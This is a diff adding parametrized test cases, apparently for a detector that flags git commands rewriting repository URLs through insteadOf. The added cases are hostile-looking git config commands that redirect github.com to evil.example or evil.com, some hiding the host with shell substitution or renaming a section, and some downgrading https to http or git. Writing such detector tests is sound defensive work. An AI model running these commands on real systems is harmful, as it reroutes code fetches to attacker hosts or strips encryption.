@@ -256,6 +256,16 @@ def test_urls_in_reads_back_from_each_separator_once(monkeypatch: pytest.MonkeyP
         ("git clone --config=url.https://evil.example/.insteadOf=https://github.com/ https://x/a", True),
         ("git clone -curl.https://evil.example/.insteadOf=https://github.com/ https://github.com/a/b", True),
         ("git config --global url.https://github.com/.insteadOf", True),  # read or unset: as before
+        # a word only run time knows: plain variables in the user part only
+        ('git config url."https://$(printf evil.com/)@github.com/".insteadOf https://github.com/', True),
+        ('git config url."https://x:${A:-evil.com/}@github.com/".insteadOf https://github.com/', True),
+        ('git config url."https://x:$T@github.com/".insteadOf "https://$H/"', True),
+        # a renamed section moves its rewrites; a plain scheme where an encrypted one was
+        ("git config --rename-section url.https://github.com/ url.https://evil.example/", True),
+        ("git config url.http://github.com/.insteadOf https://github.com/", True),
+        ("git config url.git://github.com/.insteadOf git@github.com:", True),
+        ("git config url.https://github.com/.insteadOf git://github.com/", False),
+        ("git config url.http://t@intranet/.insteadOf http://intranet/", False),
         # not a rewrite being set
         ("git log --grep url.a.insteadOf", False),
         ("echo git config url.https://evil.example/.insteadOf https://github.com/", False),
